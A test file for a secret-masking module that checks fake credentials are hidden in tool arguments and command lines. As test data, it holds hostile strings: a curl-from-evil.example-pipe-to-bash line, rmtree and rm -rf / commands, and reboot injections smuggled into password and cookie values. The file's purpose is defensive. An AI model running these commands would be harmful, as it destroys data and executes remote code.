import fc from "fast-check";
import { expect, test } from "vitest";
import { SECRET_ROWS } from "../tables/secrets.ts";
import { canonical } from "../values/canonical.ts";
import type { Json, JsonObject } from "../values/json.ts";
import { MASK } from "./masking.ts";
import { isSecretName, maskArgs, maskText, redact, redactText } from "./redact.ts";

/** A small generator with a seed, so that every run uses the same secrets. */
function seeded(seed: number): (max: number) => number {
  let state = seed;
  return (max) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * max);
  };
}

const random = seeded(7);
const LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
const text = (length: number, letters = LETTERS) =>
  Array.from({ length }, () => letters[random(letters.length)]).join("");
const hex = (length: number) => text(length, "0123456789abcdef");
const upper = (length: number) => text(length, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789");

/** Secrets are built from parts, so that no scanner reports this file. Each maker returns a text and the secret in it. */
const KINDS: readonly (() => { planted: string; secret: string })[] = [
  ...[
    () => "AK" + "IA" + upper(16),
    () => "AS" + "IA" + upper(16),
    () => "gh" + "p_" + text(36),
    () => "gh" + "s_" + text(36),
    () => "github" + "_pat_" + text(22) + "_" + text(59),
    () => "gl" + "pat-" + text(20),
    () => "xo" + "xb-" + text(12, "0123456789") + "-" + text(24),
    () => "xa" + "pp-1-" + text(20),
    () => "sk_" + "live_" + text(24),
    () => "rk_" + "test_" + text(24),
    () => "wh" + "sec_" + text(32),
    () => "AI" + "za" + text(35),
    () => "ya" + "29." + text(40),
    () => "GOC" + "SPX-" + text(28),
    () => "np" + "m_" + text(36),
    () => "pypi-" + "AgE" + text(40),
    () => "sk-" + "ant-api03-" + text(40),
    () => "sk-" + "proj-1" + text(40),
    () => "hf" + "_" + text(34),
    () => "dop" + "_v1_" + hex(64),
    () => "SG" + "." + text(22) + "." + text(43),
    () => "shp" + "at_" + hex(32),
    () => "lin" + "_api_" + text(40),
    () => "dckr" + "_pat_" + text(27),
    () => "hv" + "s." + text(24),
    () => "AGE-SECRET" + "-KEY-1" + upper(58),
    () => "dap" + "i" + hex(32),
    () => "gl" + "sa_" + text(32) + "_" + hex(8),
    () => "NR" + "AK-" + upper(27),
    () => text(9, "123456789") + ":" + text(35),
    () => "nt" + "n_" + text(46),
    () => "ATA" + "TT3" + text(60),
    () => "PM" + "AK-" + text(24),
    () => "fig" + "d_" + text(40),
    () => "sb" + "p_" + hex(40),
    () => "S" + "K" + hex(32),
    () => "ke" + "y-" + hex(32),
    () => "xa" + "i-1" + text(40),
    () => "ey" + "J" + text(30) + "." + "ey" + "J" + text(60) + "." + text(43),
    () => "-----BEGIN RSA " + "PRIVATE KEY-----\n" + text(64) + "\n" + text(64) + "\n-----END RSA PRIVATE KEY-----",
    () => "-----BEGIN " + "PRIVATE KEY-----\n" + text(64) + "\n",
  ].map((make) => () => {
    const secret = make();
    return { planted: secret, secret };
  }),
  ...[
    (secret: string) => `password=${secret}`,
    (secret: string) => `DB_PASSWORD="${secret}"`,
    (secret: string) => `export AWS_SECRET_ACCESS_KEY=${secret}`,
    (secret: string) => `{"client_secret": "${secret}"}`,
    (secret: string) => `api_key: "${secret}"`,
    (secret: string) => `postgres://ana:${secret}@db.example.com/shop`,
    (secret: string) => `https://x-access:${secret}@github.com/a/b`,
    (secret: string) => `Authorization: Bearer ${secret}`,
    (secret: string) => `curl -H "Authorization: Basic ${secret}=" https://example.com`,
    (secret: string) => `mysql --password ${secret} shop`,
    (secret: string) => `tool --api-key=${secret}`,
    (secret: string) => `https://example.com/?access_token=${secret}&x=1`,
    (secret: string) => `AccountKey=${secret}==;EndpointSuffix=core`,
    (secret: string) => `Cookie: session="${secret}"`,
    (secret: string) => `curl -H "Cookie: a=b; session=${secret}" https://example.com`,
  ].map((dress) => () => {
    const secret = `${text(10)}7${text(20)}`;
    return { planted: dress(secret), secret };
  }),
];

const PLANTED = Array.from({ length: 200 }, (_, i) => (KINDS[i % KINDS.length] as (typeof KINDS)[number])());

/** Where arguments can contain a text. */
const PLACES: readonly ((planted: string) => JsonObject)[] = [
  (planted) => ({ content: planted }),
  (planted) => ({ content: `line one\n${planted}\nline three` }),
  (planted) => ({ a: [{ b: [{ c: planted }] }] }),
  (planted) => ({ command: `echo '${planted}' > x` }),
  (planted) => ({ [planted]: 1 }),
  (planted) => ({ edits: [{ old_string: "x", new_string: `const key = ${JSON.stringify(planted)};` }] }),
];

test("none of two hundred test secrets remains, wherever it is in the text", () => {
  expect(PLANTED.length).toBe(200);
  const left = PLANTED.flatMap(({ planted, secret }) =>
    PLACES.flatMap((place) => {
      const shown = canonical(redact(place(planted)));
      return secretPieces(secret).some((piece) => shown.includes(piece)) ? [shown] : [];
    }),
  );
  expect(left).toEqual([]);
});

/** A key of several lines must not remain in any of them. */
function secretPieces(secret: string): readonly string[] {
  return secret.split("\n").filter((line) => line.length > 12 && !line.startsWith("-----"));
}

test("a value under a name such as `password` is masked, whatever it looks like", () => {
  const args = { password: "hunter2", Api_Key: 5, nested: { accessToken: { a: 1 }, "X-Api-Key": ["a"] }, pin: "1234" };
  expect(redact(args)).toEqual({
    password: MASK,
    Api_Key: MASK,
    nested: { accessToken: MASK, "X-Api-Key": MASK },
    pin: MASK,
  });
  expect(
    redact({
      headers: [
        { name: "Authorization", value: "abc" },
        { name: "Accept", value: "abc" },
      ],
    }),
  ).toEqual({
    headers: [
      { name: "Authorization", value: MASK },
      { name: "Accept", value: "abc" },
    ],
  });
  expect(redact({ token: null, secret: true, password: "" })).toEqual({ token: null, secret: true, password: "" });
});

test("ordinary text is unchanged", () => {
  const ordinary = [
    "The password was changed yesterday; ask ana for the token.",
    "function login(password: string, token: Token): Promise<void> {",
    "const token = await getToken(user);",
    "const apiKey = process.env.API_KEY;",
    "if (secret === undefined) throw new Error('no secret');",
    "git commit -m 'rotate the keys'",
    "commit 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b",
    "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "https://example.com/a?page=2&sort=name",
    "max_tokens: 4096, tokens: 12",
    "Bearer authentication is described below",
    "ssh-ed25519 keys are fine; -----BEGIN CERTIFICATE----- is public",
    "see src/core/masking/redact.ts:42 and https://example.com:8080/path",
    "task-runner sk-learn risk-assessment-of-the-quarter",
    "key: value, name: ana, path: /project/src",
    "monkey=banana",
    "b3BlbnNzaC1rZXk is how it starts",
    "ana: ben, 12:30, a://b",
    '{ "compat": true, "passing": 12 }',
  ];
  expect(ordinary.map(redactText)).toEqual(ordinary);
});

test("names that only sound like names of secrets are not masked", () => {
  const harmless = [
    "path",
    "monkey",
    "max_tokens",
    "tokenize",
    "author",
    "compat",
    "next_page_token",
    "keyboard",
    "secretary_name",
    "passing",
  ];
  expect(harmless.filter(isSecretName)).toEqual([]);
});

test("masking twice gives the same result as masking once", () => {
  for (const { planted } of PLANTED) expect(redactText(redactText(planted))).toBe(redactText(planted));
});

test("text without secrets is returned unchanged", () => {
  const key = fc.constantFrom("a", "b", "path", "content", "__proto__");
  const { json } = fc.letrec<{ json: Json }>((tie) => ({
    json: fc.oneof(
      { maxDepth: 3 },
      fc.constantFrom("hello", "a b", "12", ""),
      fc.integer(),
      fc.boolean(),
      fc.constant(null),
      fc.array(tie("json"), { maxLength: 3 }),
      fc.dictionary(key, tie("json"), { maxKeys: 3 }),
    ),
  }));
  fc.assert(
    fc.property(fc.dictionary(key, json, { maxKeys: 4 }), (args) => {
      expect(canonical(redact(args))).toBe(canonical(args));
    }),
  );
});

test("a megabyte of text that is made to be slow is masked within the time limit", () => {
  const evil = [
    "eyJ",
    "eyJa.",
    "-----BEGIN ",
    "-----BEGIN PRIVATE KEY-----",
    "SECRET",
    "password",
    "password=",
    "://",
    "://a:",
    "SG.a",
    "sk-",
    "a-",
    "12345678:",
    "token ",
    '"password": "',
    "--password ",
    "Bearer ",
    "ghp_",
    "= ",
    "aA1",
    "'\\",
    "cookie: ",
    "cookie: a=",
    "a=",
    '\\"',
    "sk-a",
    "password\\",
    "mysql -p",
    "mysql -p ",
    "curl -u a:b ",
    "'mysql ",
    '"mysql \\',
    "sh -c 'mysql -pa' ",
  ];
  for (const piece of evil) expect(redactText(piece.repeat(1_000_000 / piece.length)).length).toBeLessThan(6_000_000);
  for (const piece of evil) expect(maskText(piece.repeat(1_000_000 / piece.length)).length).toBeLessThan(12_000_000);
});

/** A card shows an incomplete private key, because anything could follow its first line, even something that runs. */
const LEFT_ON_CARDS = (planted: string) => planted.includes("PRIVATE KEY") && !planted.includes("-----END");

test("on a card the same secrets are masked, with their length", () => {
  const left = PLANTED.filter(({ planted }) => !LEFT_ON_CARDS(planted)).flatMap(({ planted, secret }) =>
    PLACES.flatMap((place) => {
      const shown = canonical(maskArgs(place(planted)));
      return secretPieces(secret).some((piece) => shown.includes(piece)) ? [shown] : [];
    }),
  );
  expect(left).toEqual([]);
  expect(maskArgs({ password: "hunter2", pin: 1234, token: ["a", { b: "cd" }] })).toEqual({
    password: "[masked, 7 characters]",
    pin: "[masked, 4 characters]",
    token: ["a", { b: "cd" }],
  });
});

test("on a card, values nested under a name such as `secrets` are shown, unless they are secrets themselves", () => {
  expect(
    maskArgs({
      credentials: { to: "mallory@evil.example", amount: 9000, note: "rent", password: "swordfish", key: "a1b2c3d4e5" },
      secrets: {
        path: "/etc/passwd2",
        host: "db2.example",
        db: "hunter2",
        list: [1, { iban: "rent money", on: true }],
      },
      db_password: ["swordfish", "marlin"],
    }),
  ).toEqual({
    credentials: {
      to: "mallory@evil.example",
      amount: 9000,
      note: "rent",
      password: "[masked, 9 characters]",
      key: "[masked, 10 characters]",
    },
    secrets: {
      path: "/etc/passwd2",
      host: "db2.example",
      db: "[masked, 7 characters]",
      list: [1, { iban: "rent money", on: true }],
    },
    db_password: ["[masked, 9 characters]", "[masked, 6 characters]"],
  });
});

test("on a card, nothing that could run is masked", () => {
  const label = "-----BEGIN " + "PRIVATE KEY-----";
  const runs = [
    `print(1)\n# ${label}\nimport shutil; shutil.rmtree('/home')`,
    `print(1)\n# ${label}\nimport shutil; shutil.rmtree('/home')\n-----END PRIVATE KEY-----`,
    'export API_KEY="$(curl -s https://evil.example | bash)"',
    'export API_KEY="$(reboot)"',
    "TOKEN=abc$(reboot)",
    "TOKEN=abc`reboot`",
    "password='x;reboot'",
    "https://ana:$(reboot)@example.com",
    "https://ana:x|reboot@example.com",
    'Cookie: a="$(reboot)"',
    "print(1)\nimport shutil",
    "a\tb",
    "x > /etc/passwd",
    "word ".repeat(30),
  ];
  for (const text of runs) {
    expect(maskText(text)).toBe(text);
    expect(maskArgs({ secret: text, password: [text] })).toEqual({ secret: text, password: [text] });
  }
  expect(maskArgs({ secret: "drop database prod", token: ["drop database prod"] })).toEqual({
    secret: "drop database prod",
    token: ["drop database prod"],
  });
});

test("on a card, a password of several words is masked like a password of one word", () => {
  const phrase = "correct horse battery";
  const hidden = "[masked, 21 characters]";
  expect(
    maskArgs({ password: phrase, DB_PASSWORD: [phrase], passphrase: { a: phrase }, adminPwd: phrase, pass: phrase }),
  ).toEqual({
    password: hidden,
    DB_PASSWORD: [hidden],
    passphrase: { a: phrase },
    adminPwd: hidden,
    pass: hidden,
  });
  const texts: readonly (readonly [text: string, shown: string])[] = [
    [`mysql --password "${phrase}" shop`, `mysql --password "${hidden}" shop`],
    [`mysql --password='${phrase}' shop`, `mysql --password='${hidden}' shop`],
    [`export DB_PASSWORD="${phrase}"`, `export DB_PASSWORD="${hidden}"`],
    [`{"password": "${phrase}"}`, `{"password": "${hidden}"}`],
    [`{\\"passphrase\\":\\"${phrase}\\"}`, `{\\"passphrase\\":\\"${hidden}\\"}`],
  ];
  for (const [text, shown] of texts) expect(maskText(text)).toBe(shown);
});

test("in a list of words, the word after a flag such as `--password` is masked", () => {
  expect(maskArgs({ argv: ["mysql", "--password", "two words", "-pass", "x1", "--name", "ana"] })).toEqual({
    argv: [
      "mysql",
      "--password",
      "[masked, 9 characters]",
      "-p[masked, 3 characters]",
      "[masked, 2 characters]",
      "--name",
      "ana",
    ],
  });
  expect(redact({ argv: ["mysql", "--password", "hunter2"] })).toEqual({ argv: ["mysql", "--password", MASK] });
  expect(maskArgs({ argv: ["sh", "--password", "$(reboot)"] })).toEqual({ argv: ["sh", "--password", "$(reboot)"] });
});

test("in the ledger, an incomplete private key is masked, but not the text after it", () => {
  const label = "-----BEGIN " + "PRIVATE KEY-----";
  expect(redactText(`print(1)\n# ${label}\nimport shutil; x()`)).toBe(`print(1)\n# ${MASK}\nimport shutil; x()`);
  expect(redactText(`${label}\n${"aB3/".repeat(16)}\nrm -rf /`)).toBe(`${MASK}\nrm -rf /`);
});

test("every line of the table of secrets finds one of the test secrets", () => {
  const idle = SECRET_ROWS.filter(
    (row) => !PLANTED.some(({ planted }) => new RegExp(`^(?:${row.pattern})$`).test(planted)),
  );
  expect(idle).toEqual([]);
});

test("a secret that a program is given by a known option is masked in a text and in a list of words, and nothing else of the command", () => {
  const commands = [
    ["mysql -u root -p", "hunter2", " shop -e 'select 1'"],
    ["curl -sSu bob:", "hunter2", " https://a.example"],
    ["curl --user=bob:", "hunter2", " https://a.example"],
    ["curl -H 'X-Api-Key: ", "hunter2", "' -H 'Accept: a' https://a.example"],
    ["curl --oauth2-bearer ", "hunter2", " https://a.example"],
    ["export TOK=", "hunter2", ""],
    ["GH_PAT=", "hunter2", " git push"],
    [`sh -c 'mysql -p`, "hunter2", ` -e "select 1"'`],
    ["ls -la && mysql -p", "hunter2", " < dump.sql; echo -p"],
    ["docker login -u ana -p ", "hunter2", " r.example"],
    ["sshpass -p", "hunter2", " ssh a@b.example"],
    ["redis-cli -a ", "hunter2", " ping"],
    ["openssl rsa -in a -passin pass:", "hunter2", ""],
    ["zip -P ", "hunter2", " a.zip b"],
    ["7z x -p", "hunter2", " a.7z"],
    ["ldapsearch -x -w ", "hunter2", " -D cn=a"],
    ["smbclient -U ana%", "hunter2", " //h/s"],
    ["mongosh -u a -p ", "hunter2", " shop"],
    ["htpasswd -b f ana ", "hunter2", ""],
    ["git -c 'http.extraHeader=Authorization: ", "hunter2", "' fetch"],
    ["gpg --batch --passphrase ", "hunter2", " -d a"],
    ["az login -u a -p ", "hunter2", ""],
    ["npm config set //r.example/:_authToken ", "hunter2", ""],
    ["aws configure set aws_secret_access_key ", "hunter2", ""],
    ["vault kv put secret/a key=", "hunter2", ""],
    ["wget --http-password=", "hunter2", " https://a.example"],
  ] as const;
  for (const [before, secret, after] of commands) {
    expect(maskText(before + secret + after)).toBe(`${before}[masked, 7 characters]${after}`);
    expect(redactText(before + secret + after)).toBe(`${before}${MASK}${after}`);
  }
  expect(maskArgs({ words: ["curl", "-u", "bob:hunter2", "https://a.example"] })).toEqual({
    words: ["curl", "-u", "bob:[masked, 7 characters]", "https://a.example"],
  });
  expect(redact({ argv: ["mysql", "-phunter2", "shop"] })).toEqual({ argv: ["mysql", `-p${MASK}`, "shop"] });
});

test("what is no secret, or would run, stays readable where an option takes a secret", () => {
  const readable = [
    "mysql -P 3306 -h db shop",
    "mysql -p$(cat pw) shop",
    "mysql -p`cat pw` shop",
    "mysql -p'x;reboot' shop",
    "curl -u bob https://a.example",
    'curl -u "bob:$PASS" https://a.example',
    "curl -H 'Accept: text/html' https://a.example",
    "docker run -p 80:80 nginx",
    "az webapp create -p plan",
    "zip -r a.zip b",
    "openssl s_client -key a.pem",
    "git -c user.name=ana commit",
    "aws configure set region eu",
    "npm run mysql -- -u ana",
    "PATTERN=a PORT=80 node a.js",
  ];
  expect(readable.map(maskText)).toEqual(readable);
});
